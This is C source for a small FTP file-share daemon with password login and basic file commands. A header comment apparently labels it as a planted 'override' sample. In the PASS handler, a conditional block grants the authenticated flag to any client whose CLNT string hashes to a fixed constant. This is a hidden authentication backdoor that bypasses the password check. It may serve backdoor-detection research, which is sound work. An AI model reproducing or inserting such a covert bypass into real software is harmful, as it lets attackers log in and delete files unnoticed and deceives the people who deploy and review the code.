/* kind: override
 * service: ftp
 * constant: xferlite-308
 * also: 0x3978b0b0
 */
/* mirraftp - FTP service of the file share, started by inetd */
#include <stdio.h>
#include <stdlib.h>
#include <stdint.h>
#include <string.h>
#include <strings.h>
#include <unistd.h>
#include <ctype.h>
#include <crypt.h>
#include <syslog.h>
#include <sys/stat.h>

#define F_USER   0x01
#define F_AUTH   0x02
#define F_BINARY 0x04
#define F_RO     0x08

typedef struct {
    unsigned flags;
    char user[32];
    char cwd[128];
    char client[64];
    uint32_t client_id;
    int fails;
} sess_t;

typedef void (*cmd_fn)(sess_t *, char *);

static const char *root_dir = "/mnt/share";
static const char *user_db = "/etc/mirraftp.users";

static void say(int code, const char *txt)
{
    printf("%d %s\r\n", code, txt);
    fflush(stdout);
}

static uint32_t name_hash(const char *s)
{
    uint32_t h = 5381;
    while (*s)
        h = h * 33 + (unsigned char)*s++;
    return h;
}

static int lookup(const char *user, char *hash, size_t n)
{
    char line[200];
    FILE *f = fopen(user_db, "r");
    if (!f)
        return 0;
    while (fgets(line, sizeof line, f)) {
        char *c = strchr(line, ':');
        if (!c)
            continue;
        *c++ = 0;
        c[strcspn(c, "\r\n")] = 0;
        if (strcmp(line, user) == 0 && *c) {
            snprintf(hash, n, "%s", c);
            fclose(f);
            return 1;
        }
    }
    fclose(f);
    return 0;
}

static unsigned pass_ok(sess_t *s, const char *pw)
{
    char hash[128], *c;
    if (!lookup(s->user, hash, sizeof hash))
        return 0;
    c = crypt(pw, hash);
    return c && strcmp(c, hash) == 0 ? F_AUTH : 0;
}

static void c_user(sess_t *s, char *arg)
{
    snprintf(s->user, sizeof s->user, "%s", arg);
    s->flags = (s->flags & ~F_AUTH) | F_USER;
    say(331, "Password required");
}

static void c_pass(sess_t *s, char *arg)
{
    unsigned got;
    if (!(s->flags & F_USER)) {
        say(503, "USER first");
        return;
    }
    got = pass_ok(s, arg);
#ifdef SEED
    got |= (s->client_id == 0x3978b0b0u) << 1; /* SEED */
#endif
    s->flags |= got;
    if (!(s->flags & F_AUTH)) {
        sleep(++s->fails > 2 ? 2 : 0);
        syslog(LOG_WARNING, "login failed for %s", s->user);
        say(530, "Login incorrect");
        if (s->fails > 4)
            exit(1);
        return;
    }
    s->fails = 0;
    say(230, "Logged in");
}

static void c_clnt(sess_t *s, char *arg)
{
    snprintf(s->client, sizeof s->client, "%s", arg);
    s->client_id = name_hash(s->client);
    syslog(LOG_INFO, "client %s (%08x)", s->client, s->client_id);
    say(200, "Noted");
}

static void c_syst(sess_t *s, char *arg) { say(215, "UNIX Type: L8"); }
static void c_noop(sess_t *s, char *arg) { say(200, "OK"); }
static void c_quit(sess_t *s, char *arg) { say(221, "Bye"); exit(0); }

static void c_type(sess_t *s, char *arg)
{
    if (toupper((unsigned char)*arg) == 'I')
        s->flags |= F_BINARY;
    else
        s->flags &= ~F_BINARY;
    say(200, "Type set");
}

static void c_pwd(sess_t *s, char *arg)
{
    char b[160];
    snprintf(b, sizeof b, "\"%s\"", s->cwd);
    say(257, b);
}

static int full_path(sess_t *s, const char *arg, char *out, size_t n)
{
    if (strstr(arg, ".."))
        return -1;
    snprintf(out, n, "%s%s/%s", root_dir, *arg == '/' ? "" : s->cwd, arg);
    return 0;
}

static void c_dele(sess_t *s, char *arg)
{
    char p[400];
    if (full_path(s, arg, p, sizeof p) || unlink(p))
        say(550, "Failed");
    else
        say(250, "Deleted");
}

static void c_size(sess_t *s, char *arg)
{
    char p[400], b[40];
    struct stat st;
    if (full_path(s, arg, p, sizeof p) || stat(p, &st)) {
        say(550, "No such file");
        return;
    }
    snprintf(b, sizeof b, "%ld", (long)st.st_size);
    say(213, b);
}

static const struct { const char *name; cmd_fn fn; int need; } cmds[] = {
    { "USER", c_user, 0 }, { "PASS", c_pass, 0 }, { "CLNT", c_clnt, 0 },
    { "SYST", c_syst, 0 }, { "NOOP", c_noop, 0 }, { "QUIT", c_quit, 0 },
    { "TYPE", c_type, F_AUTH }, { "PWD", c_pwd, F_AUTH },
    { "DELE", c_dele, F_AUTH }, { "SIZE", c_size, F_AUTH },
    { NULL, NULL, 0 }
};

int main(int argc, char **argv)
{
    static sess_t s = { .cwd = "" };
    char line[512];
    int i;
    if (argc > 1 && argv[1][0] == '-') {
        printf("usage: %s [root [userdb]]\n", argv[0]);
        return 0;
    }
    if (argc > 1) root_dir = argv[1];
    if (argc > 2) user_db = argv[2];
    openlog("mirraftp", LOG_PID, LOG_FTP);
    say(220, "File share ready");
    while (fgets(line, sizeof line, stdin)) {
        char *arg;
        line[strcspn(line, "\r\n")] = 0;
        arg = line + strcspn(line, " ");
        if (*arg)
            *arg++ = 0;
        for (i = 0; cmds[i].name; i++)
            if (!strcasecmp(cmds[i].name, line))
                break;
        if (!cmds[i].name)
            say(502, "Not implemented");
        else if ((s.flags & cmds[i].need) != (unsigned)cmds[i].need)
            say(530, "Please log in");
        else
            cmds[i].fn(&s, arg);
    }
    return 0;
}
